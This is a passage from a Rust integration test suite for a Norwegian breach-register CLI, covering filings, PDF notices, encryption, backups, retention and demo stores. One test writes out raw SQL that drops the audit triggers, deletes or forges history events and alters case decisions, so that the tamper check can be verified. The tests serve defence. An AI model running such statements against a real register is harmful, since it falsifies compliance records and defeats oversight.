    assert_eq!(clock["deadline_local"], "2026-11-23T11:40:00+01:00");
    assert_eq!(clock["seconds_left"], -3600);
    assert_eq!(clock["state"], "overdue");
    let out = cli.run(&["clock", reference, "--at", "i morgen"], None);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("RFC 3339"));
}

#[test]
fn the_handler_corrects_the_facts_and_records_informing_the_people_affected() {
    let cli = Cli::new().with_systems();
    let reference = &handled_case(&cli);

    // A correction without a reason is refused; with one, the next filing carries it.
    let mut doc: serde_json::Value =
        serde_json::from_str(&example("misdirected-email.json")).unwrap();
    doc["subjects_count"] = serde_json::json!({"kind": "exact", "value": 14});
    let out = cli.run(
        &["handle", "correct", reference, "--json", "-"],
        Some(&doc.to_string()),
    );
    assert!(!out.status.success(), "--reason is required");
    let h = cli.ok(
        &[
            "handle",
            "correct",
            reference,
            "--json",
            "-",
            "--reason",
            "Lønnssystemet viser 14 mottakere.",
        ],
        Some(&doc.to_string()),
    );
    assert_eq!(h["unfiled_changes"][0]["path"], "case.subjects_count");
    assert_eq!(h["clock"]["follow_up_due"], true);
    let h = cli.ok(&["filing", "add", reference, "--kind", "follow-up"], None);
    assert_eq!(h["filings"][1]["changes"][0]["path"], "case.subjects_count");

    // Informing the people affected: a missed person needs a reason.
    let err = cli.fails(
        &[
            "subjects",
            "add",
            reference,
            "--channel",
            "email",
            "--text",
            "-",
            "--recipients",
            "14",
            "--all-reached",
            "no",
        ],
        Some("Lønnsslippen din ble sendt til feil mottaker."),
    );
    assert!(err.contains("subjects.not_reached_reason"), "{err}");
    let h = cli.ok(
        &[
            "subjects",
            "add",
            reference,
            "--channel",
            "email",
            "--text",
            "-",
            "--recipients",
            "14",
            "--all-reached",
            "yes",
        ],
        Some("Lønnsslippen din ble sendt til feil mottaker."),
    );
    let duty = h["duties"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["kind"] == "subjects")
        .unwrap();
    assert_eq!(duty["state"], "done");
    assert_eq!(duty["deadline"], serde_json::Value::Null);
    let list = cli.ok(&["subjects", "list", reference], None);
    assert_eq!(list[0]["channel"], "email");
    assert_eq!(
        list[0]["text"],
        "Lønnsslippen din ble sendt til feil mottaker."
    );
}

/// The text of a PDF as pdftotext reads it (poppler-utils).
fn pdf_text(path: &Path) -> String {
    let out = std::process::Command::new("pdftotext")
        .arg("-layout")
        .arg(path)
        .arg("-")
        .output()
        .expect("pdftotext runs (install poppler-utils)");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

#[test]
fn the_notice_is_printed_per_filing_and_as_a_preview() {
    let cli = Cli::new().with_systems();
    let reference = &decided_case(
        &cli,
        &[
            "--notify",
            "yes",
            "--inform",
            "no",
            "--other-authorities",
            "Anmeldt til politiet, sak 26-1234.",
        ],
    );
    let dir = tempfile::tempdir().unwrap();
    let first = dir.path().join("melding-1.pdf");
    let err = cli.fails(
        &[
            "notice",
            reference,
            "--filing",
            "1",
            "--out",
            first.to_str().unwrap(),
        ],
        None,
    );
    assert!(err.contains("has no filing 1"), "{err}");
    cli.ok(&["filing", "add", reference, "--kind", "preliminary"], None);
    cli.run(
        &[
            "notice",
            reference,
            "--filing",
            "1",
            "--out",
            first.to_str().unwrap(),
        ],
        None,
    );
    let text = pdf_text(&first);
    for expected in [
        "Melding om brudd på personopplysningssikkerheten",
        "FORELØPIG MELDING",
        reference,
        "1. Behandlingsansvarlig",
        "4. Tidslinje",
        "8. Konsekvenser og risikovurdering",
        "12. Vedlegg",
        "Mer informasjon vil bli ettersendt",
        "Anmeldt til politiet, sak 26-1234.",
    ] {
        assert!(text.contains(expected), "{expected} missing from:\n{text}");
    }
    // An existing file is never overwritten.
    let err = cli.fails(
        &[
            "notice",
            reference,
            "--filing",
            "1",
            "--out",
            first.to_str().unwrap(),
        ],
        None,
    );
    assert!(err.contains("cannot write"), "{err}");

    // The preview in English, after a correction: the change is marked.
    let mut doc: serde_json::Value =
        serde_json::from_str(&example("misdirected-email.json")).unwrap();
    doc["subjects_count"] = serde_json::json!({"kind": "exact", "value": 14});
    cli.ok(
        &[
            "handle",
            "correct",
            reference,
            "--json",
            "-",
            "--reason",
            "Fjorten mottakere.",
        ],
        Some(&doc.to_string()),
    );
    let preview = dir.path().join("preview.pdf");
    cli.run(
        &[
            "notice",
            reference,
            "--out",
            preview.to_str().unwrap(),
            "--lang",
            "en",
        ],
        None,
    );
    let text = pdf_text(&preview);
    assert!(text.contains("PREVIEW – NOT SENT"), "{text}");
    assert!(text.contains("Changed"), "{text}");
    assert!(text.contains("Exactly 14"), "{text}");
    // The first notice still prints what was filed then.
    let again = dir.path().join("melding-1-igjen.pdf");
    cli.run(
        &[
            "notice",
            reference,
            "--filing",
            "1",
            "--out",
            again.to_str().unwrap(),
        ],
        None,
    );
    assert!(!pdf_text(&again).contains("Nøyaktig 14"));
}

/// The misdirected e-mail, submitted, assessed and decided with `decide` (the
/// arguments after `handle decide REFERENCE`); its reference.
fn decided_case(cli: &Cli, decide: &[&str]) -> String {
    let case = cli.ok(
        &["case", "new", "--json", "-"],
        Some(&example("misdirected-email.json")),
    );
    let reference = case["reference"].as_str().unwrap().to_owned();
    cli.ok(
        &["handle", "assess", &reference, "--json", "-"],
        Some(&assessment_example()),
    );
    let mut args = vec!["handle", "decide", reference.as_str()];
    args.extend_from_slice(decide);
    cli.ok(&args, None);
    reference
}

/// A handled case (to notify, to inform) with a preliminary filing: a dozen events in
/// the history.
fn handled_case(cli: &Cli) -> String {
    let reference = decided_case(cli, &["--notify", "yes", "--inform", "yes"]);
    cli.ok(
        &["filing", "add", &reference, "--kind", "preliminary"],
        None,
    );
    reference
}

#[test]
fn the_report_and_the_letter_are_printed_and_every_export_is_in_the_history() {
    let cli = Cli::new().with_systems();
    let reference = handled_case(&cli);
    let dir = tempfile::tempdir().unwrap();
    let report = dir.path().join("rapport.pdf");
    let out = cli.run(
        &["report", &reference, "--out", report.to_str().unwrap()],
        None,
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = pdf_text(&report);
    for expected in [
        "Intern avviksrapport",
        reference.as_str(),
        "Hendelseslogg",
        "Fjordtech AS",
    ] {
        assert!(text.contains(expected), "{expected} missing from:\n{text}");
    }
    let letter = dir.path().join("brev.pdf");
    let out = cli.run(
        &[
            "letter",
            &reference,
            "--out",
            letter.to_str().unwrap(),
            "--lang",
            "en",
        ],
        None,
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = pdf_text(&letter);
    assert!(text.contains("What you can do"), "{text}");
    // The footer's chain head is part of the history, before and after more events.
    let stderr = String::from_utf8(out.stderr).unwrap();
    let head = stderr
        .split("chain head ")
        .nth(1)
        .unwrap()
        .trim_end_matches([')', '\n'])
        .to_owned();
    assert!(
        text.replace(char::is_whitespace, "").contains(&head),
        "the footer carries the chain head {head}:\n{text}"
    );
    cli.ok(
        &[
            "handle",
            "comment",
            &reference,
            "--text",
            "Brevet er sendt.",
        ],
        None,
    );
    let verified = cli.ok(&["audit", "verify", "--head", &head.to_uppercase()], None);
    assert_eq!(verified["head_found"], true);
    assert!(verified["broken"].is_null());
    let err = cli.fails(&["audit", "verify", "--head", &"ab".repeat(32)], None);
    assert!(err.contains("is not part of the current history"), "{err}");
    let err = cli.fails(&["audit", "verify", "--head", "abc"], None);
    assert!(err.contains("64 hexadecimal digits"), "{err}");

    // Both exports are events, with the file's digest and the head in its footer.
    let shown = cli.ok(&["case", "history", &reference], None);
    let exports: Vec<&Value> = shown
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "exported")
        .collect();
    assert_eq!(exports.len(), 2, "{shown:#}");
    assert_eq!(exports[0]["data"]["document"], "report");
    assert_eq!(exports[1]["data"]["document"], "letter");
    assert_eq!(exports[1]["data"]["lang"], "en");
    assert_eq!(exports[1]["data"]["chain_head"], head.as_str());
    assert_eq!(
        exports[1]["data"]["bytes"],
        std::fs::metadata(&letter).unwrap().len()
    );
    // Only a notice belongs to a filing; a draft has no documents.
    let draft = cli.ok(&["case", "new", "--draft", "--json", "-"], Some("{}"));
    let err = cli.fails(
        &[
            "report",
            draft["id"].as_str().unwrap(),
            "--out",
            dir.path().join("x.pdf").to_str().unwrap(),
        ],
        None,
    );
    assert!(err.contains("still a draft"), "{err}");
}

/// Opens the store behind the CLI's back, as someone with the file and a SQLite shell.
fn raw_store(path: &Path) -> rusqlite::Connection {
    let conn = rusqlite::Connection::open(path).unwrap();
    conn.pragma_update(None, "key", PASSPHRASE).unwrap();
    conn
}

#[test]
fn audit_verify_catches_every_kind_of_tampering_with_plain_sql() {
    let cli = Cli::new().with_systems();
    handled_case(&cli);
    handled_case(&cli);
    let intact = cli.ok(&["audit", "verify"], None);
    let events = intact["events"].as_u64().unwrap();
    assert!(events >= 8, "{intact:#}");
    // Without dropping the triggers, plain SQL cannot change or remove an event.
    {
        let conn = raw_store(&cli.db());
        let err = conn
            .execute("UPDATE case_events SET actor = 'x' WHERE seq = 3", [])
            .unwrap_err();
        assert!(err.to_string().contains("append-only"), "{err}");
        // Nor slip through by setting a column to NULL, nor "redact" into anything.
        for sneaky in [
            "UPDATE case_events SET redacted = 1, hash = NULL WHERE seq = 3",
            "UPDATE case_events SET redacted = 1, data = '{\"forfalsket\":1}' WHERE seq = 3",
            "UPDATE case_events SET actor = NULL WHERE seq = 3",
            // Retention's one rewrite, on a case that was never anonymised.
            "UPDATE case_events SET redacted = 1, data = '{}' WHERE seq = 3",
        ] {
            let err = conn.execute(sneaky, []).unwrap_err();
            assert!(err.to_string().contains("append-only"), "{sneaky}: {err}");
        }
        let err = conn
            .execute("DELETE FROM case_events WHERE seq = 3", [])
            .unwrap_err();
        assert!(err.to_string().contains("append-only"), "{err}");
        let err = conn
            .execute(
                "INSERT INTO case_events (case_id, at, kind, actor) SELECT case_id, at, kind, actor FROM case_events WHERE seq = 3",
                [],
            )
            .unwrap_err();
        assert!(err.to_string().contains("with its hash"), "{err}");
    }
    let tampering: &[(&str, &str, &str)] = &[
        ("changed", "UPDATE case_events SET actor = 'someone' WHERE seq = 3", "event 3 "),
        ("changed data", "UPDATE case_events SET data = '{}' WHERE seq = 4", "event 4 "),
        ("removed", "DELETE FROM case_events WHERE seq = 3", "event 4 "),
        (
            "inserted",
            "UPDATE case_events SET seq = seq + 1000 WHERE seq > 3;
             INSERT INTO case_events (seq, case_id, at, kind, actor, data, data_hash, hash)
                 SELECT 4, case_id, at, 'commented', actor, data, data_hash, lower(hex(randomblob(32)))
                 FROM case_events WHERE seq = 3;",
            "event 4 ",
        ),
        (
            "reordered",
            "UPDATE case_events SET seq = -1 WHERE seq = 2;
             UPDATE case_events SET seq = 2 WHERE seq = 3;
             UPDATE case_events SET seq = 3 WHERE seq = -1;",
            "event 2 ",
        ),
        (
            "appended",
            "INSERT INTO case_events (seq, case_id, at, kind, actor, data, data_hash, hash)
                 SELECT seq + 1, case_id, at, kind, actor, data, data_hash, lower(hex(randomblob(32)))
                 FROM case_events ORDER BY seq DESC LIMIT 1;",
            "",
        ),
        (
            "the newest events removed",
            "DELETE FROM case_events WHERE seq > (SELECT max(seq) - 2 FROM case_events);",
            "the newest events were removed",
        ),
        (
            "an event's content erased as if retention had run",
            "UPDATE case_events SET redacted = 1, data = '{}' WHERE seq = 4",
            "event 4 ",
        ),
    ];
    let original = std::fs::read(cli.db()).unwrap();
    // What the app shows, changed with plain SQL while the history is left alone: the
    // check names the case and what differs (the triggers stay: none is needed).
    let changed_state: &[(&str, &str, &str)] = &[
        (
            "the description",
            "UPDATE cases SET document = json_set(document, '$.description', 'Ingenting skjedde.')
             WHERE ref_seq = 1",
            "AVVIK-2026-0001 (case)",
        ),
        (
            "the decision (notify → not notify)",
            "UPDATE case_handling SET decision = replace(decision, 'true', 'false')
             WHERE case_id = (SELECT id FROM cases WHERE ref_seq = 1)",
            "AVVIK-2026-0001 (decision)",
        ),
        (
            "a whole case deleted",
            "PRAGMA foreign_keys = OFF;
             DELETE FROM case_handling WHERE case_id = (SELECT id FROM cases WHERE ref_seq = 2);
             DELETE FROM cases WHERE ref_seq = 2;",
            "(missing)",
        ),
    ];
    for (what, sql, named) in changed_state {
        std::fs::write(cli.db(), &original).unwrap();
        raw_store(&cli.db()).execute_batch(sql).unwrap();
        let err = cli.fails(&["audit", "verify"], None);
        assert!(
            err.contains("differ from what their history recorded"),
            "{what}: {err}"
        );
        assert!(err.contains(named), "{what}: expected {named:?} in {err}");
    }
    for (what, sql, named) in tampering {
        std::fs::write(cli.db(), &original).unwrap();
        {
            let conn = raw_store(&cli.db());
            conn.execute_batch(
                "DROP TRIGGER case_events_are_never_changed;
                 DROP TRIGGER case_events_are_never_deleted;
                 DROP TRIGGER case_events_are_hashed;",
            )
            .unwrap();
            conn.execute_batch(sql).unwrap();
        }
        let err = cli.fails(&["audit", "verify"], None);
        assert!(err.contains("the history is broken at"), "{what}: {err}");
        assert!(err.contains(named), "{what}: expected {named:?} in {err}");
    }
    // The whole history deleted, SQLite's counter with it: what is left is an intact,
    // empty chain. Caught without `--head`, against the head the last intact check kept
    // beside the store.
    std::fs::write(cli.db(), &original).unwrap();
    cli.ok(&["audit", "verify"], None);
    assert!(avvik_store_sqlite::anchor::path_for(&cli.db()).exists());
    {
        let conn = raw_store(&cli.db());
        conn.execute_batch(
            "DROP TRIGGER case_events_are_never_deleted;
             DELETE FROM case_events;
             DELETE FROM sqlite_sequence WHERE name = 'case_events';",
        )
        .unwrap();
    }
    let err = cli.fails(&["audit", "verify"], None);
    assert!(
        err.contains("no longer contains the head") && err.contains("deleted or rewritten"),
        "{err}"
    );
}

#[test]
fn the_store_is_encrypted_by_default_and_needs_its_passphrase() {
    let cli = Cli::new().with_systems();
    cli.ok(
        &["case", "new", "--json", "-"],
        Some(&example("misdirected-email.json")),
    );
    let info = cli.ok(&["store", "info"], None);
    assert_eq!(info["encrypted"], true, "{info:#}");
    let bytes = std::fs::read(cli.db()).unwrap();
    assert!(!bytes.starts_with(b"SQLite format 3"));
    // The wrong passphrase, and none at all, are one-line errors.
    let out = cli.run_with_env(
        &["case", "list"],
        &[("AVVIK_PASSPHRASE", "ikke riktig passfrase")],
    );
    assert!(!out.status.success());
    let err = String::from_utf8(out.stderr).unwrap();
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(err.contains("passphrase does not open"), "{err}");
    let mut cmd = cli.command(&["case", "list"]);
    cmd.env_remove("AVVIK_PASSPHRASE").stdin(Stdio::null());
    let out = cmd.output().unwrap();
    let err = String::from_utf8(out.stderr).unwrap();
    assert!(
        !out.status.success() && err.contains("AVVIK_PASSPHRASE"),
        "{err}"
    );
    assert_eq!(
        std::fs::read(cli.db()).unwrap(),
        bytes,
        "nothing was written"
    );

    // A new passphrase: the old one stops working.
    let out = cli.run_with_env(
        &["store", "passphrase"],
        &[("AVVIK_NEW_PASSPHRASE", "kort")],
    );
    assert!(!out.status.success(), "too short a passphrase is refused");
    let out = cli.run_with_env(
        &["store", "passphrase"],
        &[("AVVIK_NEW_PASSPHRASE", "en annen lang passfrase")],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(!cli.run(&["case", "list"], None).status.success());
    let out = cli.run_with_env(
        &["case", "list"],
        &[("AVVIK_PASSPHRASE", "en annen lang passfrase")],
    );
    assert!(out.status.success());
}

#[test]
fn an_unencrypted_store_is_an_explicit_choice_and_is_encrypted_on_request() {
    let cli = Cli::bare();
    let out = cli.run(
        &[
            "init",
            "--org-name",
            "Fjordtech AS",
            "--org-number",
            "974 760 673",
            "--username",
            "leder",
            "--name",
            "Lise Leder",
            "--unencrypted",
        ],
        None,
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let cli = cli.as_user("leder").with_systems();
    cli.ok(
        &["case", "new", "--json", "-"],
        Some(&example("misdirected-email.json")),
    );
    assert_eq!(cli.ok(&["store", "info"], None)["encrypted"], false);
    assert!(
        std::fs::read(cli.db())
            .unwrap()
            .starts_with(b"SQLite format 3")
    );
    // Only an admin may encrypt it.
    let cli = cli.with_employee();
    let err = cli
        .as_user("ansatt")
        .fails(&["store", "encrypt", "--generate-passphrase"], None);
    assert!(err.contains("may not manage the store"), "{err}");
    let out = cli.run(&["store", "encrypt", "--generate-passphrase"], None);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let said = String::from_utf8(out.stderr).unwrap();
    let generated = said
        .lines()
        .map(str::trim)
        .find(|l| l.len() == 35 && l.matches('-').count() == 5)
        .unwrap_or_else(|| panic!("the passphrase is shown once: {said}"))
        .to_owned();
    assert!(
        !std::fs::read(cli.db())
            .unwrap()
            .starts_with(b"SQLite format 3")
    );
    let out = cli.run_with_env(&["case", "list"], &[("AVVIK_PASSPHRASE", &generated)]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let listed: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(listed.as_array().unwrap().len(), 1);
}

#[test]
fn a_backup_restores_the_store_after_checking_it() {
    let cli = Cli::new().with_systems();
    handled_case(&cli);
    let dir = tempfile::tempdir().unwrap();
    let copy = dir.path().join("kopi.sqlite3");
    let made = cli.ok(&["backup", "--out", copy.to_str().unwrap()], None);
    assert!(made["bytes"].as_u64().unwrap() > 0);
    let err = cli.fails(&["backup", "--out", copy.to_str().unwrap()], None);
    assert!(err.contains("exists already"), "{err}");
    let in_folder = cli.ok(&["backup"], None);
    assert_eq!(in_folder["reason"], "manual");
    // More work after the backup…
    handled_case(&cli);
    assert_eq!(cli.count(), 2);
    // …is undone by the restore, which keeps the store as it was.
    let restored = cli.ok(&["restore", copy.to_str().unwrap()], None);
    assert_eq!(restored["cases"], 1);
    assert_eq!(cli.count(), 1);
    let safety = restored["safety_copy"].as_str().unwrap();
    assert!(Path::new(safety).exists());
    assert!(cli.ok(&["audit", "verify"], None)["broken"].is_null());
    // A file that is not a backup changes nothing.
    let junk = dir.path().join("junk.sqlite3");
    std::fs::write(&junk, "ikke en database ".repeat(100)).unwrap();
    let err = cli.fails(&["restore", junk.to_str().unwrap()], None);
    assert!(err.contains("does not open"), "{err}");
    assert_eq!(cli.count(), 1);
    // Restoring is for admins.
    let cli = cli.with_employee();
    let err = cli
        .as_user("ansatt")
        .fails(&["restore", copy.to_str().unwrap()], None);
    assert!(err.contains("may not manage the store"), "{err}");
}

#[test]
fn retention_anonymises_only_closed_cases_past_the_period_and_asks_first() {
    let cli = Cli::new().with_systems();
    let old = handled_case(&cli);
    let recent = handled_case(&cli);

    let err = cli.fails(&["org", "set", "--retention-months", "12"], None);
    assert!(err.contains("between 24 and 600 months"), "{err}");
    let err = cli.fails(&["retention", "run", "--yes"], None);
    assert!(err.contains("no retention period"), "{err}");
    let org = cli.ok(&["org", "set", "--retention-months", "36"], None);
    assert_eq!(org["retention_months"], 36);

    // One case closed four years ago, one closed a year ago (set with plain SQL: the
    // CLI reads the real clock).
    {
        let conn = raw_store(&cli.db());
        for (reference, closed) in [
            (&old, "2022-10-01T10:00:00Z"),
            (&recent, "2025-10-01T10:00:00Z"),
        ] {
            let seq: i64 = reference.rsplit('-').next().unwrap().parse().unwrap();
            let id: String = conn
                .query_row("SELECT id FROM cases WHERE ref_seq = ?1", [seq], |r| {
                    r.get(0)
                })
                .unwrap();
            conn.execute("UPDATE cases SET status = 'closed' WHERE id = ?1", [&id])
                .unwrap();
            conn.execute(
                "UPDATE case_handling SET lessons_learned = 'Spør Kari Nordmann', closed_at = ?2,
                     closed_by = (SELECT id FROM users WHERE username = 'leder') WHERE case_id = ?1",
                [&id, closed],
            )
            .unwrap();
        }
    }
    let status = cli.ok(&["retention", "status"], None);
    assert_eq!(status["months"], 36);
    let due: Vec<&str> = status["candidates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["reference"].as_str().unwrap())
        .collect();
    assert_eq!(due, [old.as_str()]);

    let show = |reference: &str| {
        let mut case = cli.ok(&["case", "show", reference], None);
        case.as_object_mut().unwrap().remove("clock");
        case
    };
    let before = show(&old);
    let err = cli.fails(&["retention", "run"], None);
    assert!(
        err.contains("1 closed case(s) would be anonymised") && err.contains("--yes"),
        "{err}"
    );
    assert_eq!(show(&old), before, "nothing changed without --yes");
    // Not an admin: refused.
    let cli_employee = cli.ok(
        &[
            "user",
            "add",
            "--username",
            "ansatt",
            "--name",
            "Åse Ansatt",
            "--role",
            "employee",
        ],
        None,
    );
    assert_eq!(cli_employee["username"], "ansatt");
    let err = cli
        .as_user("ansatt")
        .fails(&["retention", "run", "--yes"], None);
    assert!(
        err.contains("ansatt may not") && err.contains("role admin"),
        "{err}"
    );

    let done = cli.ok(&["retention", "run", "--yes"], None);
    assert_eq!(done.as_array().unwrap().len(), 1);
    assert_eq!(done[0]["reference"], old.as_str());
    assert!(done[0]["texts"].as_u64().unwrap() >= 3, "{done}");
    let after = show(&old);
    assert_eq!(after["title"], "[anonymisert]");
    assert_eq!(after["reporter"]["name"], "[anonymisert]");
    assert_eq!(after["systems"], before["systems"]);
    assert_eq!(after["subjects_count"], before["subjects_count"]);
    assert!(after["anonymised_at"].is_string());
    // The other case is untouched, the history intact, and a second run finds nothing.
    // The check names the recent case: this test closed it with plain SQL, which is
    // exactly a change behind Avvik's back (the anonymised one recorded its new state).
    assert_ne!(show(&recent)["title"], "[anonymisert]");
    let err = cli.fails(&["audit", "verify"], None);
    assert!(
        err.contains("1 case(s) differ") && err.contains(&format!("{recent} (case, closing)")),
        "{err}"
    );
    // The filings stay append-only: anonymising was their one exception.
    {
        let conn = raw_store(&cli.db());
        for sneaky in [
            "UPDATE filings SET snapshot = '{}'",
            "UPDATE filings SET anonymised = 0",
            "UPDATE filings SET kind = 'complete', anonymised = 1 WHERE anonymised = 0",
            "UPDATE filings SET snapshot = '{}' WHERE anonymised = 0",
        ] {
            let err = conn.execute(sneaky, []).unwrap_err();
            assert!(err.to_string().contains("append-only"), "{sneaky}: {err}");
        }
        let texts: Vec<String> = conn
            .prepare("SELECT snapshot FROM filings WHERE anonymised = 1")
            .unwrap()
            .query_map([], |r| r.get(0))
            .unwrap()
            .collect::<Result<_, _>>()
            .unwrap();
        assert_eq!(texts.len(), 1);
        assert!(!texts[0].contains("Åse Bjørnstad") && texts[0].contains("[anonymisert]"));
    }
    assert_eq!(
        cli.ok(&["retention", "run", "--yes"], None),
        serde_json::json!([])
    );
}

#[test]
fn the_demo_company_lives_beside_the_real_store_and_goes_in_one_command() {
    let data = tempfile::tempdir().unwrap();
    let run = |args: &[&str], password: &str| -> Output {
        Command::new(env!("CARGO_BIN_EXE_avvik"))
            .args(args)
            .env_remove("AVVIK_DB")
            .env_remove("AVVIK_USER")
            .env("AVVIK_DATA_DIR", data.path())
            .env("AVVIK_PASSWORD", password)
            .env("AVVIK_PASSPHRASE", PASSPHRASE)
            .env("AVVIK_NO_KEYCHAIN", "1")
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let json = |out: &Output| -> Value {
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).unwrap()
    };
    let real = data.path().join("avvik.sqlite3");
    let demo = data.path().join("demo").join("avvik.sqlite3");
    json(&run(
        &[
            "init",
            "--org-name",
            "Fjordtech AS",
            "--org-number",
            "974760673",
            "--username",
            "leder",
            "--name",
            "Lise Leder",
        ],
        PASSWORD,
    ));

    let made = run(&["demo", "create"], "");
    let made_json = json(&made);
    assert!(String::from_utf8_lossy(&made.stderr).contains("demo company"));
    assert_eq!(made_json["path"], demo.display().to_string());
    assert_eq!(made_json["organisation"], "Demo: Eksempel AS");
    assert_eq!(made_json["users"].as_array().unwrap().len(), 3);
    assert_eq!(made_json["cases"].as_array().unwrap().len(), 6);
    let again = run(&["demo", "create"], "");
    assert!(!again.status.success(), "a demo is made only once");

    // The demo store says what it is after every command; the real one does not.
    let demo_db = demo.to_str().unwrap();
    let listed = run(
        &["--db", demo_db, "--user", "leder", "case", "list"],
        "demopassord",
    );
    assert_eq!(json(&listed).as_array().unwrap().len(), 6);
    assert!(String::from_utf8_lossy(&listed.stderr).contains("this is the demo company"));
    let info = json(&run(&["--db", demo_db, "store", "info"], ""));
    assert_eq!(
        (info["demo"].clone(), info["encrypted"].clone()),
        (Value::Bool(true), Value::Bool(false))
    );
    let real_list = run(&["--user", "leder", "case", "list"], PASSWORD);
    assert_eq!(
        json(&real_list),
        serde_json::json!([]),
        "the real register has no demo case"
    );
    assert!(real_list.stderr.is_empty());

    // Every command on the demo says so, those that need no user too.
    for args in [&["store", "info"][..], &["audit", "verify"][..]] {
        let out = run(&[&["--db", demo_db][..], args].concat(), "");
        assert!(out.status.success(), "{args:?}");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("this is the demo company"),
            "{args:?}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let real_out = run(&[&["--db", real.to_str().unwrap()][..], args].concat(), "");
        assert!(real_out.status.success(), "{args:?}");
        assert!(
            !String::from_utf8_lossy(&real_out.stderr).contains("demo"),
            "{args:?}"
        );
    }

    // Removing asks for --yes.
    let unasked = run(&["demo", "remove"], "");
    assert!(!unasked.status.success() && demo.exists());

    // --db names the real store: the demo beside it is meant, never the store itself.
    let removed = json(&run(
        &["--db", real.to_str().unwrap(), "demo", "remove", "--yes"],
        "",
    ));
    assert!(
        removed["removed"]
            .as_array()
            .unwrap()
            .contains(&Value::String(demo.display().to_string()))
    );
    assert!(!data.path().join("demo").exists());
    let real_info = json(&run(&["store", "info"], ""));
    assert_eq!(real_info["demo"], false);
    assert_eq!(real_info["encrypted"], true);
}

#[test]
fn the_demo_is_never_made_at_nor_removed_from_a_real_stores_path() {
    let data = tempfile::tempdir().unwrap();
    let elsewhere = tempfile::tempdir().unwrap();
    let run = |args: &[&str], db: &std::path::Path| -> Output {
        Command::new(env!("CARGO_BIN_EXE_avvik"))
            .args(args)
            .env("AVVIK_DB", db)
            .env_remove("AVVIK_USER")
            .env("AVVIK_DATA_DIR", data.path())
            .env("AVVIK_PASSWORD", PASSWORD)
            .env("AVVIK_PASSPHRASE", PASSPHRASE)
            .env("AVVIK_NO_KEYCHAIN", "1")
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let stderr = |out: &Output| String::from_utf8_lossy(&out.stderr).into_owned();
    // AVVIK_DB names where the real store is to be (not made yet): the demo goes into
    // `demo/` beside it, and the real store is made there later as usual.
    let real = elsewhere.path().join("register.sqlite3");
    let made = run(&["demo", "create"], &real);
    assert!(made.status.success(), "{}", stderr(&made));
    let demo = elsewhere.path().join("demo").join("avvik.sqlite3");
    let made: Value = serde_json::from_slice(&made.stdout).unwrap();
    assert_eq!(made["path"], demo.display().to_string());
    assert!(
        demo.is_file() && !real.exists(),
        "never at the real store's path"
    );
    assert!(!data.path().join("demo").exists());
    let init = [
        "init",
        "--org-name",
        "Fjordtech AS",
        "--org-number",
        "974760673",
        "--username",
        "leder",
        "--name",
        "Lise Leder",
    ];
    let set_up = run(&init, &real);
    assert!(set_up.status.success(), "{}", stderr(&set_up));
    let info = run(&["store", "info"], &real);
    let info: Value = serde_json::from_slice(&info.stdout).unwrap();
    assert_eq!(info["demo"], false);
    // --db wins over AVVIK_DB, as for every command.
    let removed = run(
        &["--db", real.to_str().unwrap(), "demo", "remove", "--yes"],
        &data.path().join("avvik.sqlite3"),
    );
    assert!(removed.status.success(), "{}", stderr(&removed));
    assert!(!demo.exists() && real.is_file());

    // A real store where a demo would be is refused, and stays.
    let odd = elsewhere.path().join("odd");
    let odd_real = odd.join("demo").join("avvik.sqlite3");
    std::fs::create_dir_all(odd_real.parent().unwrap()).unwrap();
    let set_up = run(&init, &odd_real);
    assert!(set_up.status.success(), "{}", stderr(&set_up));
    let refused = run(&["demo", "remove", "--yes"], &odd.join("avvik.sqlite3"));
    assert!(!refused.status.success());
    assert!(
        stderr(&refused).contains("not a demo company's store"),
        "{}",
        stderr(&refused)
    );
    let again = run(&["demo", "create"], &odd.join("avvik.sqlite3"));
    assert!(!again.status.success(), "{}", stderr(&again));
    assert!(odd_real.is_file());
    let info = run(&["store", "info"], &odd_real);
    let info: Value = serde_json::from_slice(&info.stdout).unwrap();
    assert_eq!(
        (info["demo"].clone(), info["encrypted"].clone()),
        (Value::Bool(false), Value::Bool(true))
    );
}

/// The exit code a failing command ends with.
fn code_of(out: &Output) -> i32 {
    assert!(!out.status.success());
    out.status.code().expect("an exit code, not a signal")
}

/// Scripts branch on the exit code: each kind of failure has its own, as `avvik --help`
/// and the README say.
#[test]
fn each_kind_of_failure_has_its_documented_exit_code() {
    let cli = Cli::new()
        .with_systems()
        .with_employee()
        .with_example_cases();
    let first = cli.ok(&["case", "list", "--sort", "reference"], None)[0]["reference"]
        .as_str()
        .unwrap()
        .to_owned();
    // 2: usage (clap's own, and what the command needs but was not given).
    assert_eq!(
        code_of(&cli.run(&["case", "list", "--sort", "sideways"], None)),
        2
    );
    let nobody = Cli {
        dir: cli.dir.clone(),
        user: None,
    };
    assert_eq!(code_of(&nobody.run(&["case", "list"], None)), 2);
    // 3: validation.
    assert_eq!(
        code_of(&cli.run(
            &["case", "new", "--json", "-"],
            Some(r#"{"title": "To\nlinjer"}"#)
        )),
        3
    );
    assert_eq!(code_of(&cli.run(&["inbox", "ack", "ikke-en-id"], None)), 3);
    // 4: not found.
    assert_eq!(
        code_of(&cli.run(&["case", "show", "AVVIK-2026-0099"], None)),
        4
    );
    // 5: not allowed: a role, and a wrong password.
    assert_eq!(
